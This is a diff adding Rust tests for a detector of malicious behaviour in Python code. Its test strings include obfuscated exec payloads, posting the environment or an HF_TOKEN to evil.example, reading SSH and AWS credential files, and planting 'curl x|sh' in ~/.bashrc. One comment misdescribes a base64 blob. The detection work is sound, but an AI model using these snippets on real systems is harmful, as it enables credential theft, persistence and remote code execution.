@@ -1,0 +1,479 @@
+//! Per capability: a malicious form, its benign twin and a mention that must not fire.
+
+use super::*;
+
+fn sites(src: &str) -> Vec<Site> {
+    analyze(src, &Limits::default()).sites
+}
+
+fn caps_of(src: &str) -> Vec<(Capability, Severity)> {
+    sites(src)
+        .iter()
+        .map(|s| (s.capability, s.severity))
+        .collect()
+}
+
+fn worst(src: &str, cap: Capability) -> Option<Severity> {
+    sites(src)
+        .iter()
+        .filter(|s| s.capability == cap)
+        .map(|s| s.severity)
+        .max()
+}
+
+#[test]
+fn smoke() {
+    let s = sites("import os\nos.system('id')\n");
+    assert_eq!(s.len(), 1, "{s:?}");
+}
+
+#[test]
+fn process_execution_through_aliases_getattr_and_import() {
+    let cases = [
+        "import os\nos.system('curl x | sh')\n",
+        "import subprocess as sp\nsp.run(['bash', '-c', 'id'])\n",
+        "from os import system as run\nrun('id')\n",
+        "import os\ngetattr(os, 'sys' + 'tem')('id')\n",
+        "__import__('o' + 's').system('id')\n",
+        "import importlib\nimportlib.import_module(''.join(['sub', 'process'])).Popen(['id'])\n",
+        "import os\nf = getattr(os, 'po%sn' % 'pe')\nf('id')\n",
+        "import pty\npty.spawn('/bin/sh')\n",
+        "import asyncio\nasyncio.create_subprocess_shell('id')\n",
+        "import os\nos.execv('/bin/sh', ['sh'])\n",
+        "import posix\nposix.system('id')\n",
+        "import os\nname = '{}{}'.format('sys', 'tem')\ngetattr(os, name)('id')\n",
+        "import os\ngetattr(os, f\"{'sys'}tem\")('id')\n",
+    ];
+    for src in cases {
+        assert_eq!(
+            worst(src, Capability::ProcessExecution),
+            Some(Severity::Critical),
+            "{src}: {:?}",
+            sites(src)
+        );
+    }
+}
+
+#[test]
+fn process_execution_benign_twins_and_mentions_do_not_fire() {
+    let cases = [
+        "import os\nos.path.join('a', 'b')\n",
+        "import subprocess\ntry:\n    pass\nexcept subprocess.CalledProcessError:\n    pass\n",
+        "# os.system('id')\nx = 1\n",
+        "\"\"\"Call os.system('id') to ...\"\"\"\n",
+        "s = \"subprocess.run(['id'])\"\n",
+        "import re\nre.compile('x')\n",
+        "def system(x):\n    return x\nsystem('id')\n",
+        "import torch\ntorch.compile(model)\n",
+    ];
+    for src in cases {
+        assert_eq!(caps_of(src), vec![], "{src}");
+    }
+}
+
+#[test]
+fn reports_the_resolved_call_the_position_and_when_it_runs() {
+    let src = "import subprocess as sp\n\nclass M:\n    def __init__(self):\n        self._setup()\n\n    def _setup(self):\n        sp.check_output(['id'])\n";
+    let s = sites(src);
+    assert_eq!(s.len(), 1, "{s:?}");
+    let site = &s[0];
+    assert_eq!(site.call, "subprocess.check_output");
+    assert_eq!((site.line, site.column), (8, 9));
+    assert_eq!(
+        site.when,
+        When::Call {
+            function: "M._setup".into(),
+            reached_from: vec!["__init__".into()]
+        }
+    );
+    assert_eq!(site.detail, "runs `id`");
+    assert_eq!(site.confidence, Confidence::High);
+    let at_import = sites(
+        "import os\n@decorate(os.system('id'))\ndef f(x=os.popen('id')):\n    pass\nclass C:\n    os.system('id')\n",
+    );
+    assert_eq!(at_import.len(), 3, "{at_import:?}");
+    assert!(at_import.iter().all(|s| s.when == When::Import));
+    let via_module_call = sites("import os\ndef payload():\n    os.system('id')\npayload()\n");
+    assert_eq!(
+        via_module_call[0].when,
+        When::Call {
+            function: "payload".into(),
+            reached_from: vec!["import".into()]
+        }
+    );
+}
+
+#[test]
+fn dynamic_code_decoded_blobs_are_decoded_and_analysed_again() {
+    // print(1); import os; os.system('id') in base64
+    let b64 = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk=";
+    let src = format!("import base64\nexec(base64.b64decode('{b64}'))\n");
+    let s = sites(&src);
+    let outer = s
+        .iter()
+        .find(|s| s.capability == Capability::DynamicCode)
+        .expect("exec");
+    assert_eq!(outer.severity, Severity::Critical);
+    assert_eq!(
+        outer.decoded.as_ref().map(|d| d.chain.clone()),
+        Some(vec!["base64".to_owned()])
+    );
+    let inner = s
+        .iter()
+        .find(|s| s.capability == Capability::ProcessExecution)
+        .expect("decoded os.system");
+    assert_eq!((inner.line, inner.call.as_str()), (2, "os.system"));
+    assert!(
+        inner
+            .decoded
+            .as_ref()
+            .is_some_and(|d| d.excerpt.contains("os.system")),
+        "{inner:?}"
+    );
+
+    // rot13 and hex
+    let rot = "vzcbeg bf; bf.flfgrz('vq')";
+    let src = format!("import codecs\nexec(codecs.decode(\"{rot}\", 'rot13'))\n");
+    assert_eq!(
+        worst(&src, Capability::ProcessExecution),
+        Some(Severity::Critical),
+        "{:?}",
+        sites(&src)
+    );
+    let hex: String = "import os; os.system('id')"
+        .bytes()
+        .map(|b| format!("{b:02x}"))
+        .collect();
+    let src = format!("exec(bytes.fromhex('{hex}').decode())\n");
+    assert_eq!(
+        worst(&src, Capability::ProcessExecution),
+        Some(Severity::Critical),
+        "{:?}",
+        sites(&src)
+    );
+    // reversed, through a constant
+    let src = "P = \")'di'(metsys.so ;so tropmi\"\nexec(P[::-1])\n";
+    assert_eq!(
+        worst(src, Capability::ProcessExecution),
+        Some(Severity::Critical),
+        "{:?}",
+        sites(src)
+    );
+}
+
+#[test]
+fn dynamic_code_nested_blob_base64_of_base64() {
+    let inner = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="; // import os; os.system('id')
+    let wrapped = format!("import base64\nexec(base64.b64decode('{inner}'))");
+    let outer: String = base64_encode(wrapped.as_bytes());
+    let src = format!("import base64\nexec(base64.b64decode('{outer}'))\n");
+    let s = sites(&src);
+    let p = s
+        .iter()
+        .find(|s| s.capability == Capability::ProcessExecution)
+        .expect("two levels down");
+    assert_eq!(
+        p.decoded.as_ref().map(|d| d.chain.clone()),
+        Some(vec!["base64".to_owned(), "base64".to_owned()])
+    );
+}
+
+fn base64_encode(data: &[u8]) -> String {
+    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let mut out = String::new();
+    for chunk in data.chunks(3) {
+        let b = [
+            chunk[0],
+            *chunk.get(1).unwrap_or(&0),
+            *chunk.get(2).unwrap_or(&0),
+        ];
+        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
+        for i in 0..4 {
+            if i <= chunk.len() {
+                out.push(A[((n >> (18 - 6 * i)) & 63) as usize] as char);
+            } else {
+                out.push('=');
+            }
+        }
+    }
+    out
+}
+
+#[test]
+fn dynamic_code_computed_is_critical_literal_is_medium() {
+    assert_eq!(
+        worst("eval(user_input)\n", Capability::DynamicCode),
+        Some(Severity::Critical)
+    );
+    assert_eq!(
+        worst("exec('x = 1')\n", Capability::DynamicCode),
+        Some(Severity::Medium)
+    );
+    assert_eq!(
+        worst(
+            "import pickle, base64\npickle.loads(base64.b64decode('gASVAAAA'))\n",
+            Capability::DynamicCode
+        ),
+        Some(Severity::Critical)
+    );
+    assert_eq!(
+        worst(
+            "import pickle, requests\npickle.loads(requests.get(U).content)\n",
+            Capability::DynamicCode
+        ),
+        Some(Severity::Critical)
+    );
+    // A checkpoint the caller names is SRC004's business, not a behaviour site.
+    assert_eq!(
+        caps_of("import pickle\npickle.load(open(path, 'rb'))\n"),
+        vec![]
+    );
+    assert_eq!(caps_of("x = 'eval(y)'\n"), vec![]);
+}
+
+#[test]
+fn network_hosts_and_what_is_sent() {
+    assert_eq!(
+        worst(
+            "import requests\nrequests.get('https://evil.example/x.sh')\n",
+            Capability::Network
+        ),
+        Some(Severity::High)
+    );
+    assert_eq!(
+        worst(
+            "import requests, os\nrequests.post('https://evil.example', json=dict(os.environ))\n",
+            Capability::Network
+        ),
+        Some(Severity::Critical)
+    );
+    assert_eq!(
+        worst(
+            "import requests, os\nt = os.getenv('HF_TOKEN')\nrequests.post('https://x.example', data={'t': t})\n",
+            Capability::Network
+        ),
+        Some(Severity::Critical)
+    );
+    assert_eq!(
+        worst(
+            "import socket\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\n",
+            Capability::Network
+        ),
+        Some(Severity::High)
+    );
+    // The Hub is where models come from; a URL the caller passes is at most medium.
+    assert_eq!(
+        caps_of("import requests\nrequests.get('https://huggingface.co/api/models')\n"),
+        vec![]
+    );
+    assert_eq!(
+        worst(
+            "import requests\ndef load_image(url):\n    return requests.get(url, stream=True).raw\n",
+            Capability::Network
+        ),
+        Some(Severity::Medium)
+    );
+    assert_eq!(
+        caps_of("URL = 'https://evil.example'  # requests.get(URL)\n"),
+        vec![]
+    );
+}
+
+#[test]
+fn credential_access_files_variables_and_bulk_environment() {
+    assert_eq!(
+        worst(
+            "import os\nopen(os.path.expanduser('~/.ssh/id_rsa')).read()\n",
+            Capability::CredentialAccess
+        ),
+        Some(Severity::High)
+    );
+    assert_eq!(
+        worst(
+            "from pathlib import Path\n(Path.home() / '.aws' / 'credentials').read_text()\n",
+            Capability::CredentialAccess
+        ),
+        Some(Severity::High)
+    );
+    assert_eq!(
+        worst(
+            "import os\nos.environ['HF_TOKEN']\n",
+            Capability::CredentialAccess
+        ),
+        Some(Severity::Medium)
+    );
+    assert_eq!(
+        worst(
+            "import os\nenv = os.environ.copy()\n",
+            Capability::CredentialAccess
+        ),
+        Some(Severity::Medium)
+    );
+    assert_eq!(
+        worst(
+            "import os\nfor k in os.environ:\n    pass\n",
+            Capability::CredentialAccess
+        ),
+        Some(Severity::Medium)
+    );
+    // One ordinary setting is not a site; nor is handing the environment to a child process.
+    assert_eq!(
+        caps_of(
+            "import os\nos.getenv('CUDA_VISIBLE_DEVICES')\nos.environ.get('TRANSFORMERS_CACHE')\n"
+        ),
+        vec![]
+    );
+    assert_eq!(caps_of("x = '~/.ssh/id_rsa'\nprint(x)\n"), vec![]);
+}
+
+#[test]
+fn persistence_writes_tampering_and_deferral() {
+    assert_eq!(
+        worst(
+            "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('curl x|sh')\n",
+            Capability::Persistence
+        ),
+        Some(Severity::Critical)
+    );
+    assert_eq!(
+        worst(
+            "import site, os\nopen(os.path.join(site.getsitepackages()[0], 'x.pth'), 'w')\n",
+            Capability::Persistence
+        ),
+        Some(Severity::Critical)
+    );
+    assert_eq!(
+        worst("import torch\ntorch.load = evil\n", Capability::Persistence),
+        Some(Severity::Critical)
+    );
+    assert_eq!(
+        worst(
+            "import pickle\npickle.Unpickler = Evil\n",
+            Capability::Persistence
+        ),
+        Some(Severity::Critical)
+    );
+    assert_eq!(
+        worst(
+            "import builtins\nbuiltins.open = my_open\n",
+            Capability::Persistence
+        ),
+        Some(Severity::Critical)
+    );
+    assert_eq!(
+        worst(
+            "import sys\nsys.modules['torch'] = fake\n",
+            Capability::Persistence
+        ),
+        Some(Severity::Critical)
+    );
+    assert_eq!(
+        worst(
+            "import torch\nsetattr(torch, 'load', evil)\n",
+            Capability::Persistence
+        ),
+        Some(Severity::Critical)
+    );
+    assert_eq!(
+        worst(
+            "import atexit, os\ndef bye():\n    os.system('id')\natexit.register(bye)\n",
+            Capability::Persistence
+        ),
+        Some(Severity::Critical)
+    );
+    assert_eq!(
+        worst(
+            "import threading, os\nthreading.Timer(5, lambda: os.system('id')).start()\n",
+            Capability::Persistence
+        ),
+        Some(Severity::Critical)
+    );
+    // Settings, writes inside the model folder and a worker thread that does nothing listed.
+    assert_eq!(
+        caps_of("import torch\ntorch.backends.cudnn.benchmark = True\n"),
+        vec![]
+    );
+    assert_eq!(
+        caps_of("import os\nopen(os.path.join(save_dir, 'config.json'), 'w')\n"),
+        vec![]
+    );
+    assert_eq!(
+        caps_of("import threading\ndef work():\n    pass\nthreading.Thread(target=work).start()\n"),
+        vec![]
+    );
+    assert_eq!(caps_of("s = 'torch.load = evil'\n"), vec![]);
+}
+
+#[test]
+fn package_installs() {
+    assert_eq!(
+        worst(
+            "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '--index-url', 'https://x', 'pkg'])\n",
+            Capability::PackageInstall
+        ),
+        Some(Severity::Critical)
+    );
+    assert_eq!(
+        worst(
+            "import os\nos.system('pip install evil')\n",
+            Capability::PackageInstall
+        ),
+        Some(Severity::Critical)
+    );
+    assert_eq!(
+        worst(
+            "import pip\npip.main(['install', 'x'])\n",
+            Capability::PackageInstall
+        ),
+        Some(Severity::Critical)
+    );
+    assert_eq!(
+        worst(
+            "from pip._internal.cli.main import main\nmain(['install', 'x'])\n",
+            Capability::PackageInstall
+        ),
+        Some(Severity::Critical)
+    );
+    assert_eq!(caps_of("# pip install flash-attn\nimport torch\n"), vec![]);
+}
+
+#[test]
+fn native_loads_record_the_library() {
+    let s = sites(
+        "import ctypes, os\nlib = ctypes.CDLL(os.path.join(os.path.dirname(__file__), 'libx.so'))\n",
+    );
+    let n = s
+        .iter()
+        .find(|s| s.capability == Capability::NativeLoad)
+        .expect("native");
+    assert_eq!(n.severity, Severity::High);
+    assert_eq!(n.library.as_deref(), Some("libx.so"));
+    assert_eq!(
+        worst(
+            "import torch\ntorch.ops.load_library('./kernels/libops.so')\n",
+            Capability::NativeLoad
+        ),
+        Some(Severity::High)
+    );
+    assert_eq!(
+        worst(
+            "import ctypes\nctypes.CDLL('libc.so.6')\n",
+            Capability::NativeLoad
+        ),
+        Some(Severity::Medium)
+    );
+    assert_eq!(caps_of("# ctypes.CDLL('x.so')\n"), vec![]);
+}
+
+#[test]
+fn hostile_inputs_are_bounded() {
+    let deep = format!("exec({}'x'{})\n", "(".repeat(500), ")".repeat(500));
+    let _ = sites(&deep);
+    let long_join = format!("exec(''.join([{}]))\n", "'a',".repeat(10_000));
+    let _ = sites(&long_join);
+    let bad = "import base64\nexec(base64.b64decode('!!!'))\n";
+    assert_eq!(
+        worst(bad, Capability::DynamicCode),
+        Some(Severity::Critical)
+    );
+}
